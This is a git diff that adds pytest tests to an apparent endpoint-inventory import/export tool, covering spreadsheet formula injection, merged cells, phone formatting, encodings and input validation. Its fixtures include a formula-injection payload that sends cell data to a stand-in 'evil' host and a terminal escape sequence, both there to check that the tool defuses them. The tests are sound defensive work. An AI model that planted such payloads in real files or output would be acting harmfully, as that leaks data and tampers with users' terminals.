@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
 import os
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 from openpyxl import Workbook, load_workbook
@@ -223,3 +227,160 @@ def test_import_reports_problems_of_the_base(tmp_path: Path) -> None:
     with pytest.raises(InputError) as caught:
         import_file(write(tmp_path, HEADER + GOOD), tmp_path / "out.yaml", base)
     assert caught.value.lines() == [f"{base}:2:12: defaults: unknown key 'colour'"]
+
+
+# -- issue 14: formula injection (finding 3) and spreadsheets as staff save them (10) --------
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1)', "+84 912 345 678", "-room", "@SUM(A1)",
+            "'quoted", "''=1+2", "plain"]
+
+
+def formula_fleet(tmp_path: Path) -> Path:
+    lines = ["version: 1", "endpoints:"]
+    for i, text in enumerate(FORMULAS):
+        quoted = text.replace("'", "''")
+        lines += [f"  - id: r{i}", f"    name: '{quoted}'", "    tier: province",
+                  f"    address: 10.0.0.{i + 1}", "    vendor: poly",
+                  f"    contact: {{name: '{quoted}', phone: '=1+2'}}"]
+    path = tmp_path / "fleet.yaml"
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_like_text_is_exported_inert_and_imported_back(tmp_path: Path,
+                                                              suffix: str) -> None:
+    original = load_inventory(formula_fleet(tmp_path))
+    sheet = tmp_path / f"out{suffix}"
+    export_file(list(original.endpoints), sheet)
+    if suffix == ".csv":
+        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"))))
+        names = [r[1] for r in rows[1:]]
+        assert names == ["'" + t if t[:1] in "=+-@'" else t for t in FORMULAS]
+        assert {r[12] for r in rows[1:]} == {"'=1+2"}
+    else:
+        ws = load_workbook(sheet).active  # not data_only: a formula would show as one
+        assert ws is not None
+        cells = [row[1] for row in ws.iter_rows(min_row=2)]
+        assert [c.value for c in cells] == FORMULAS
+        assert {c.data_type for c in cells} == {"s"}
+    back = import_file(sheet, tmp_path / "back.yaml")
+    assert back.endpoints == original.endpoints
+
+
+def xlsx(tmp_path: Path, rows: list[list[object]], name: str = "in.xlsx") -> tuple[Path, Any]:
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    for row in rows:
+        ws.append(row)
+    return tmp_path / name, (wb, ws)
+
+
+XLSX_HEADER = ["id", "name", "tier", "parent", "address", "vendor", "contact_phone"]
+
+
+def test_xlsx_merged_cells_take_the_top_left_value(tmp_path: Path) -> None:
+    src, (wb, ws) = xlsx(tmp_path, [
+        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", None],
+        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", None],
+        ["b", "Xã B", None, "hub", "10.0.0.3", None, None]])
+    ws.merge_cells("C3:C4")
+    ws.merge_cells("F3:F4")
+    wb.save(src)
+    inv = import_file(src, tmp_path / "out.yaml")
+    assert (inv.get("b").tier, inv.get("b").vendor) == ("commune", "poly")
+
+
+def test_xlsx_formula_without_saved_value_names_the_cell(tmp_path: Path) -> None:
+    src, (wb, _) = xlsx(tmp_path, [
+        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", None],
+        ["a", '=CONCAT("Xã ", "A")', "commune", "hub", "10.0.0.2", "poly", None]])
+    wb.save(src)  # openpyxl saves no cached value, as a script-made file would
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [f"{src}:3:2: B3: formula without a saved value: open and "
+                                    "save the file in Excel, or type the value"]
+
+
+def test_xlsx_date_and_time_cells_in_text_columns_are_errors(tmp_path: Path) -> None:
+    src, (wb, _) = xlsx(tmp_path, [
+        XLSX_HEADER, ["hub", dt.time(8, 0), "province", None, "10.0.0.1", "cisco_ce", None],
+        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", dt.date(2026, 12, 1)]])
+    wb.save(src)
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [
+        f"{src}:2:2: column 'name': the cell is a date or time (08:00:00), not text: format "
+        "the cell as Text and type the value again",
+        f"{src}:3:7: column 'contact_phone': the cell is a date or time (2026-12-01), not "
+        "text: format the cell as Text and type the value again"]
+
+
+def test_xlsx_numeric_phone_keeps_the_zeros_its_format_shows(tmp_path: Path) -> None:
+    src, (wb, ws) = xlsx(tmp_path, [
+        XLSX_HEADER, ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", 912345678],
+        ["a", "Xã A", "commune", "hub", "10.0.0.2", "poly", 912345678]])
+    ws["G2"].number_format = "0000000000"
+    wb.save(src)
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [
+        f"{src}:3:7: column 'contact_phone': the phone number is stored as a number "
+        "(912345678), which loses a leading 0: format the cell as Text (or as 0000000000) "
+        "and type it again"]
+    ws["G3"].number_format = "0000000000"
+    wb.save(src)
+    inv = import_file(src, tmp_path / "out.yaml")
+    assert inv.get("hub").contact.phone == inv.get("a").contact.phone == "0912345678"
+
+
+def test_import_reads_excel_unicode_text(tmp_path: Path) -> None:
+    src = tmp_path / "in.csv"  # Excel's "Unicode text": UTF-16 LE with a BOM, tab-separated
+    text = (HEADER + GOOD).replace(",", "\t").replace('"pilot\t north"', "pilot north")
+    src.write_bytes(text.replace("\n", "\r\n").encode("utf-16"))
+    inv = import_file(src, tmp_path / "out.yaml")
+    assert inv.get("ha-son").name == "UBND xã Hà Sơn"
+    assert inv.get("ha-son").tags == ["pilot", "north"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_import_skips_title_rows_above_the_header(tmp_path: Path, suffix: str) -> None:
+    title = ["Danh sách điểm cầu truyền hình — tỉnh Thanh Hóa"]
+    rows = [title, [], [*HEADER.strip().split(",")[:-1], "sip_transport"],
+            ["hub", "UBND tỉnh", "province", None, "10.0.0.1", "cisco_ce", 5060, "agent", "tcp"],
+            ["x", "Xã X", "commune", "hub", "10.0.0.2", "poly", 70000, "agent", None]]
+    if suffix == ".csv":
+        src = tmp_path / "in.csv"
+        with src.open("w", encoding="utf-8", newline="") as f:
+            csv.writer(f).writerows(["" if c is None else c for c in r] for r in rows)
+    else:
+        src, (wb, _) = xlsx(tmp_path, rows)
+        wb.save(src)
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [f"{src}:5:7: endpoint 'x': sip_port: port must be between "
+                                    "1 and 65535, got 70000"]
+
+
+def test_rejected_row_gives_its_children_no_false_parent_error(tmp_path: Path) -> None:
+    text = (HEADER + "hub,UBND tỉnh,province,,10.0.0.1,cisco_ce,5060,hunter2,\n"
+            "a,Xã A,commune,hub,10.0.0.2,poly,,agent,\n"
+            "b,Xã B,commune,nowhere,10.0.0.3,poly,,agent,\n")
+    src = write(tmp_path, text)
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [
+        f"{src}:2:8: endpoint 'hub': secret: plaintext secret is not allowed: use env:VAR, "
+        "file:PATH, keyring:SERVICE/USER or agent",
+        f"{src}:4:4: endpoint 'b': parent 'nowhere' does not exist"]
+    assert "hunter2" not in caught.value.text
+
+
+def test_control_characters_in_a_cell_are_refused(tmp_path: Path) -> None:
+    src = write(tmp_path, HEADER + "hub,Evil\x1b]0;pwned\x07,province,,10.0.0.1,cisco_ce,,agent,\n")
+    with pytest.raises(InputError) as caught:
+        import_file(src, tmp_path / "out.yaml")
+    assert caught.value.lines() == [
+        f"{src}:2:2: endpoint 'hub': name: control or bidi character U+001B at position 5: "
+        "remove it (it would act on the terminal that shows this text)"]
